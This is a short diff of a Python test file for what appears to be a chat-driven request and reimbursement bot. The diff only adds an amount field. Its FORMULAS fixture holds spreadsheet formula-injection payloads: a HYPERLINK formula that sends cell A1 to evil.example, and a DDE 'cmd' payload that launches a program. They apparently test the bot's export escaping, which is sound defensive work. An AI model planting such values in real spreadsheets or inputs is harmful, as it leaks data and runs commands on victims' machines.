@@ -112,7 +112,7 @@ def test_an_admin_sees_who_sent_it_and_is_reminded_to_keep_it_close(story, fmt):
 
 FORMULAS = """\
 @now 2026-11-23T09:00
-alice> /request finance reimbursement =HYPERLINK("http://evil.example/?x="&A1,"taxi")
+alice> /request finance reimbursement amount=86 =HYPERLINK("http://evil.example/?x="&A1,"taxi")
 bob> /request comment FIN-1 +cmd|' /C calc'!A0
 bob> /request resolve FIN-1 -2+3 paid
 alice> /request confirm FIN-1
